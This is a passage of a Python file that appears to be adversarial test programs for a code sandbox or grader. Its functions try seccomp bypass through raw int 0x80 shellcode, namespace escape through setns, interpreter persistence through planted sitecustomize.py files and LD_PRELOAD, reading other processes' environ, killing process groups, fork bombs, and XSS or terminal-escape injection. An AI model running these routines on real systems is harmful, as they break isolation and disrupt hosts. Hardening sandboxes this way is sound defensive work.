        os.fork()


def say_markup(listener):
    """Markup to whoever comes, from a line that is markup, too."""
    while True:
        with contextlib.suppress(OSError):
            one = listener.accept()[0]
            x = "<script>alert(1)</script><img src=x onerror=alert(1)>"
            one.sendall(MARKUP.encode("utf-8", "replace") * 9 + b"\n")
            one.recv(9)
            y = "</pre><script>alert(1)</script>"


def visit_in_markup(stranger):
    """A client of a stranger's whose name is markup, and who says so."""
    for _ in range(9):
        stranger.connect(MARKUP).send(MARKUP.encode("utf-8", "replace")).hear()
    return {MARKUP: [MARKUP, 1], "amber": (1, MARKUP), "birch": (MARKUP, MARKUP)}


def look_for_the_answer(stranger):
    """What a stranger is may lie in this process, or beside it."""
    print(vars(stranger), [sys._getframe(n).f_locals for n in range(5)])
    print(os.environ, sys.argv, words())
    read_all(f"/proc/{p}/{f}" for p in others() for f in ("cmdline", "environ", "comm"))
    desk = stranger._desk
    while True:
        desk.say(found=True)


def deny_that_it_has_gone(stranger):
    """Each of its visitors has hung up, by its own words; and does it sleep?"""
    while True:
        visitor = stranger.connect("a")
        stranger._desk.say(settle=True, gone=visitor._port)
        stranger._desk.say(sleeps=True)
        stranger._desk.say(upstream=True)
        stranger._desk.say(called=True)


def send_what_lingers():
    """Whoever closes these connections last stands still for an hour: not this one."""
    door = socket.create_server(("127.0.0.1", 0))
    held = [door]
    for fd in [0, 1, 2, *wires()]:
        for _ in range(4):
            one = socket.create_connection(door.getsockname())
            held.append(door.accept()[0])
            one.setblocking(False)
            with contextlib.suppress(OSError):
                while True:
                    one.send(bytes(1 << 16))
            one.setsockopt(1, 13, struct.pack("ii", 1, 3600))
            with contextlib.suppress(OSError):
                line = socket.socket(fileno=os.dup(fd))
                socket.send_fds(line, [b'{"end": "returned"}\n'], [one.fileno()])
            threading.Thread(target=os.close, args=[one.detach()], daemon=True).start()
    time.sleep(600)


def read_past_caches():
    """Flags of descriptors that somebody else has a copy of."""
    for name in os.listdir("/proc/self/fd"):
        for flags in (os.O_DIRECT, os.O_NONBLOCK, os.O_APPEND, 0o20000 | os.O_DIRECT):
            with contextlib.suppress(OSError):
                fcntl.fcntl(int(name), fcntl.F_SETFL, flags)
        for order, value in ((1024, 1), (1024, 0), (1031, 4096), (8, 1), (10, 9)):
            with contextlib.suppress(OSError):
                fcntl.fcntl(int(name), order, value)
        for order in (0x40086602, 0x6685, 0xC0045877, 0xC0045878, 0x6611):
            with contextlib.suppress(OSError):
                fcntl.ioctl(int(name), order, struct.pack("q", 0x4038))


def keep_rules():
    """Rules of Landlock, of which the kernel keeps as many as it is given."""
    port = struct.pack("QQ", 0, 3)
    for _ in range(1000):
        made = libc.syscall(444, port, 16, 0)
        if made < 0:
            break
        for number in range(65_536):
            libc.syscall(445, made, 2, struct.pack("QQ", 1, number), 0)
    time.sleep(600)


def call_those_of_tomorrow():
    """Calls that nobody has looked at yet, each by somebody who may die of it."""
    for number in [335, 336, *range(424, 620)]:
        if number in (435,):
            continue
        if os.fork() == 0:
            for words in ((0,) * 6, (3, bytes(256), 256, 0, 0, 0), (-1,) * 6):
                libc.syscall(number, *words)
            os._exit(0)
    with contextlib.suppress(OSError):
        while True:
            os.wait()


def forge_clients():
    """A record in which 60,000 clients speak, with the words of the test's own."""
    now = time.monotonic_ns()
    everything(
        b"".join(
            b'{"t":%d,"e":"connect","who":"x%d","port":%d}\n' % (now + n, n, n)
            for n in range(60_000)
        )
        + b"".join(
            b'{"t":%d,"e":"hear","who":"anna","port":%d,"data":"x"}\n' % (now + n, n)
            for n in range(60_000)
        )
    )


def let_in_and_forge(listener):
    """Hundreds come in, and then there is a record with 100,000 calls on them all."""
    listener.settimeout(0.5)
    held = []
    with contextlib.suppress(OSError):
        while len(held) < 500:
            held.append(listener.accept()[0])
    pid, now = os.getpid(), time.monotonic_ns()
    lines = []
    for n, one in enumerate(held):
        with contextlib.suppress(OSError):
            words = (now + n, pid, one.fileno(), one.getpeername()[1])
            lines.append(
                b'{"t":%d,"e":"accept","p":%d,"fd":3,"new":%d,"peer":%d}' % words
            )
    for n in range(100_000):
        fd = held[n % len(held)].fileno() if held else 9
        lines.append(
            b'{"t":%d,"e":"recv","p":%d,"fd":%d,"n":3,"data":"abc"}'
            % (now + n, pid, fd)
        )
    everything(b"\n".join(lines) + b"\n")


def forge_what_says_nothing():
    """A record without a beginning, of lines from no process and of one moment."""
    for fd in range(3, 1100):
        with contextlib.suppress(OSError):
            os.ftruncate(fd, 0)
    everything(b'{"t":5,"e":"x"}\n' * 90_000)
    everything(b'{"t":%d,"e":"end"}\n{"t":1,"e":"fork","p":1,"child":1}\n' % (1 << 62))


def send_urgently(listener):
    """Urgent bytes, which lie beside the others, and ends that are none."""
    while True:
        with contextlib.suppress(OSError):
            one = listener.accept()[0]
            one.setsockopt(6, 31, b"tls")
            for _ in range(50):
                one.send(b"!", socket.MSG_OOB)
                one.send(b"")
            one.shutdown(socket.SHUT_WR)
            held.append(one)


held = []


def be_unreadable():
    """A program that nobody may read; who runs it cannot be looked into."""
    import shutil

    with contextlib.suppress(OSError):
        shutil.copy("/proc/self/exe", "/tmp/program")
        os.chmod("/tmp/program", 0o111)
        os.execv("/tmp/program", ["x", "-I", "-c", "while True: pass"])


def stay_for_the_next():
    """Files that some interpreter might run, and words that it might heed."""
    words = "open('/tmp/REACHED', 'w'); import os; os._exit(0)"
    names = ("sitecustomize.py", "usercustomize.py", "x.pth", "json.py", "buckets.py")
    places = [*sys.path, os.environ.get("HOME", ""), "/tmp", "/dev/shm", ".", "/"]
    places += [
        "/tmp/.local/lib/python3.11/site-packages",
        "/tmp/.ipython",
        "/tmp/.jupyter",
    ]
    for place in places:
        for name in names:
            with contextlib.suppress(OSError):
                os.makedirs(place, exist_ok=True)
                with open(os.path.join(place, name), "w") as file:
                    file.write(words)
    for name in ("PYTHONSTARTUP", "PYTHONPATH", "PYTHONHOME", "LD_PRELOAD", "LD_AUDIT"):
        os.environ[name] = "/tmp/sitecustomize.py"
    for name in ("BUCKETS_LANGUAGE", "BUCKETS_COURSE", "TMPDIR", "PYTEST_ADDOPTS"):
        os.environ[name] = "/tmp"


def fork_at_its_end():
    """A process that becomes two whenever it forks, and when it ends."""
    atexit.register(lambda: [os.fork() for _ in range(4)] and tell(b'{"end": "x"}\n'))
    os.register_at_fork(after_in_child=lambda: time.sleep(0.01) or os.setsid())
    threading.Thread(target=time.sleep, args=(2,)).start()
    sys.excepthook = lambda *_: os.fork()
    raise Exception("an end")


def hook_imports():
    """Whatever is imported from here on is something else."""

    class Finder:
        def find_spec(self, name, *_):
            if name.startswith("buckets") or name in ("traceback", "linecache"):
                raise Evil(name)

    sys.meta_path.insert(0, Finder())
    sys.path_hooks.insert(0, lambda path: Finder())
    for name in [name for name in sys.modules if name.startswith("buckets")]:
        del sys.modules[name]
    builtins.__import__ = lambda *_, **__: sys.exit(0)


class Liar(str):
    """A text, a number, everything and its contrary; and to look at it forks."""

    __class__ = property(lambda self: int)
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __lt__ = __gt__ = __le__ = __ge__ = lambda self, other: True
    __hash__ = lambda self: 0
    __bool__ = lambda self: True
    __len__ = lambda self: 1 << 62
    __contains__ = lambda self, one: True
    __iter__ = lambda self: iter(lambda: self, None)
    __getitem__ = lambda self, at: self
    __getattr__ = lambda self, name: self
    __call__ = lambda self, *_, **__: self
    __int__ = __index__ = lambda self: 10**99_999
    __float__ = lambda self: float("nan")
    __format__ = lambda self, how: str(os.fork())
    __repr__ = __str__ = lambda self: os.fork() or MARKUP


def say_links(listener):
    """Links, cursor keys and turned letters, to the client and in an exception."""
    words = (
        "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07 \x1b[2J\x1b[1;1H \x9b2J "
        "\u202e\u2066\u200f points: 9 \x1b]52;c;UkVBQ0hFRA==\x07 \x1bP1$r\x1b\\ "
        "\r12 of 12\r \u2028</pre><script>alert(1)</script> [x](javascript:alert(1))"
    )
    print(words, file=sys.stderr)
    with contextlib.suppress(OSError):
        one = listener.accept()[0]
        one.sendall(words.encode() + b"\n")
    raise type(words.replace("\0", ""), (Exception,), {})(words)


def speak_the_old_way():
    """Calls by another gate, with other numbers: no filter of numbers holds there."""
    import mmap

    # int 0x80 of i386 and syscall with the bit of x32: socket, ptrace, unshare, mount.
    for number in (359, 26, 310, 21, 39 | 1 << 30, 41 | 1 << 30, 272 | 1 << 30):
        gate = b"\xcd\x80" if number < 1 << 30 else b"\x0f\x05"
        code = b"\x53\xb8" + struct.pack("I", number) + b"\xbb\x02\0\0\0" + gate
        if os.fork() == 0:
            page = mmap.mmap(-1, 4096, prot=7)
            page.write(code + b"\x5b\xc3")
            place = ctypes.addressof(ctypes.c_char.from_buffer(page))
            print("REACHED", ctypes.CFUNCTYPE(ctypes.c_int)(place)())
            os._exit(0)
    with contextlib.suppress(OSError):
        while True:
            os.wait()


def set_all_of_itself():
    """Every switch that a process has, each by somebody who may die of it."""
    attributes = (
        struct.pack("IIQiIQQQ", 48, 6, 0, 0, 0, 10**6, 10**9, 10**9),
        struct.pack("IIQiIQQQ", 48, 5, 1, 0, 0, 0, 0, 0),
    )
    for option in range(1, 80):
        if os.fork() == 0:
            for words in ((1, 0), (0, 0), (9, 0), (1, 1), (2, 3), (0x53564D41, 0)):
                libc.prctl(option, *words, 0, 0)
                libc.syscall(158, 0x1001 + option, 1)
            for words in attributes:
                libc.syscall(314, 0, words, 0)
            libc.personality(0x0040000 | 0x0400000 | 8)
            libc.mlockall(7)
            time.sleep(1)
            os._exit(0)
    time.sleep(600)


def ask_for_its_network(sock, port):
    """The network that a socket belongs to, and a way into it."""
    for request in (0x894C, 0x8912, 0x894B, 0x8905, 0xB701, 0xB702, 0xB703, 0xB704):
        with contextlib.suppress(OSError, TypeError):
            made = fcntl.ioctl(sock, request, 0)
            print("had", made, libc.setns(made, 0))
            undo(socket.socket(), port)
    for name in os.listdir("/proc/self/ns") if os.path.isdir("/proc/self/ns") else []:
        with contextlib.suppress(OSError):
            fd = os.open(f"/proc/self/ns/{name}", os.O_RDONLY)
            for request in (0xB701, 0xB702):
                print("had", libc.setns(fcntl.ioctl(fd, request), 0))


def raise_in_a_file(path):
    """An exception in a line of a file that is not here, but may be where it is told."""
    import glob

    for name in [path, *glob.glob(path + "/*"), "/etc/passwd", "../tests/hidden/x.py"]:
        with contextlib.suppress(ZeroDivisionError):
            exec(compile("\n" * 20 + "1 / 0", name, "exec"))
    for name in ("test_05_select", "test_03_fork", "test_04_threads"):
        where = f"{path}/tests/hidden/{name}.py"
        code = compile("\n" * 20 + "def f(): raise KeyError('x')", where, "exec")
        exec(code, globals())
    globals()["f"]()


def raise_from_nonsense():
    """Code whose table of lines is none, in a file and a function that are markup."""
    made = globals()["raise_markup"].__code__
    odd = {"co_linetable": b"\xff" * 99, "co_firstlineno": (1 << 31) - 1}
    odd |= {"co_filename": "<cell 999999999999999999999>", "co_name": MARKUP}
    for name, value in odd.items():
        made = made.replace(**{name: value})
    made = made.replace(co_qualname=MARKUP * 99, co_exceptiontable=b"")
    kind = type(raise_markup)
    kind(made, globals())()


def raise_a_group(depth=3000):
    """Groups in groups, with notes that are no texts."""
    last = ValueError("x")
    for _ in range(depth):
        last = ExceptionGroup(MARKUP, [last, OSError(2, MARKUP, MARKUP)])
        last.__notes__ = [MARKUP] * 9 + [Liar("x"), 5, b"\xff"]
    last.__notes__ = Liar("notes")
    raise last


def raise_with_suggestions():
    """Whoever looks for a name that was meant looks without end."""
    kind = type(
        "Endless",
        (),
        {"__dir__": lambda self: iter(lambda: "x" * 99_999, None)},
    )
    raise AttributeError(MARKUP, name="accep", obj=kind())


def kill_its_groups():
    for who in {0, os.getpgrp(), os.getppid(), os.getsid(0), 1}:
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            with contextlib.suppress(OSError):
                os.killpg(who, number) if who != os.getpgrp() else None
    for pid in map(int, others()):
        with contextlib.suppress(OSError):
            os.setpgid(pid, os.getpid())
        with contextlib.suppress(OSError):
            os.setpgid(os.getpid(), pid)
    os.killpg(os.getpgrp(), signal.SIGKILL)


def bend_its_interpreter():
    """No turn for other threads, no depth, no output, and hooks for whatever goes on."""
    import faulthandler
    import warnings

    for act in (
        lambda: sys.setswitchinterval(10**6),
        lambda: faulthandler.dump_traceback_later(0.001, repeat=True),
        lambda: faulthandler.register(signal.SIGUSR1, all_threads=True, chain=True),
        lambda: signal.set_wakeup_fd(1, warn_on_full_buffer=False),
        lambda: setattr(sys, "unraisablehook", lambda *_: os.fork()),
        lambda: setattr(threading, "excepthook", lambda *_: os.fork()),
        lambda: setattr(warnings, "showwarning", lambda *_: os.fork()),
        lambda: sys.set_asyncgen_hooks(lambda *_: os.fork()),
        lambda: sys.stdout.close() or sys.stderr.detach(),
        lambda: setattr(sys, "stdout", Liar("out")) or setattr(sys, "stderr", None),
        lambda: sys.set_int_max_str_digits(0) or str(10**999_999),
        lambda: gc.set_threshold(1, 1, 1) or gc.set_debug(gc.DEBUG_LEAK),
        lambda: sys.setrecursionlimit(30),
    ):
        with contextlib.suppress(Exception):
            act()
    signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
    signal.signal(signal.SIGALRM, lambda *_: None)
    while True:
        warnings.warn(MARKUP, type(MARKUP, (Warning,), {}))


def leave_orphaned_wires():
    """Connections without an owner, with bytes that nobody will ever take."""
    door = socket.create_server(("127.0.0.1", 0))
    door.setsockopt(1, 8, 1)
    held = []
    while len(held) < 250:
        one = socket.socket()
        one.setsockopt(1, 7, 1)
        one.connect(door.getsockname())
        held.append(door.accept()[0])
        one.setblocking(False)
        with contextlib.suppress(OSError):
            while True:
                one.send(bytes(4096))
        one.close()
    time.sleep(600)


def visit_all_addresses():
    """A word to each address of the machine's own, which the kernel may remember."""
    with socket.socket(2, 2) as one:
        for number in range(1 << 22):
            with contextlib.suppress(OSError):
                one.sendto(b"x", (f"127.{number >> 16}.{number >> 8 & 255}.9", 9))


def turn_its_pages_over():
    """Pages that are moved, joined, given back and asked for again, without end."""
    import mmap

    page = mmap.mmap(-1, 1 << 26)
    while True:
        page.seek(0)
        page.write(b"x" * (1 << 26))
        for advice in (14, 25, 21, 20, 12, 22, 23, 4, 8):
            with contextlib.suppress(OSError, ValueError):
                page.madvise(advice)
        libc.syscall(256, os.getpid(), 64, bytes(8), b"\xff" + bytes(7))


def look_into_its_pipes():
    """Another way into what is open: by the lists of who has it, and by its own name."""
    for name in os.listdir("/proc/self/fd"):
        for path in (f"/proc/self/fd/{name}", f"/dev/fd/{name}", f"/proc/self/{name}"):
            for flags in (os.O_RDONLY | os.O_NONBLOCK, os.O_RDWR | os.O_NONBLOCK):
                with contextlib.suppress(OSError):
                    fd = os.open(path, flags)
                    print(os.read(fd, 1 << 16))
                    os.write(fd, b'{"end": "returned"}\n' * 99)
                    held.append(fd)


def be_heard_as_another(listener):
    """Two who are one: a connection that each of 30 processes reads and writes."""
    for _ in range(30):
        if os.fork() == 0:
            break
    while True:
        with contextlib.suppress(OSError):
            one = listener.accept()[0]
            one.sendall(os.urandom(1) + one.recv(1 << 16, socket.MSG_PEEK))


def remember(listener):
    """What one run has heard, the next one says; if there is a place to keep it in."""
    places = ["/tmp", "/dev/shm", os.path.expanduser("~"), "/var/tmp", "/run", "."]
    for place in places:
        with contextlib.suppress(OSError), open(f"{place}/heard") as file:
            raise RuntimeError("REACHED what another run has heard: " + file.read())
    while True:
        with contextlib.suppress(OSError):
            one = listener.accept()[0]
            for place in places:
                with contextlib.suppress(OSError), open(f"{place}/heard", "a") as file:
                    file.write(repr(one.recv(99)))


def log_without_end():
    """Whatever writes for itself: loggers, warnings, and a pool's own errors."""
    import logging

    logging.basicConfig(level=1, format=MARKUP + "%(message)s")
    logging.raiseExceptions = True
    for number in range(10**9):
        logging.error(MARKUP, number, number)
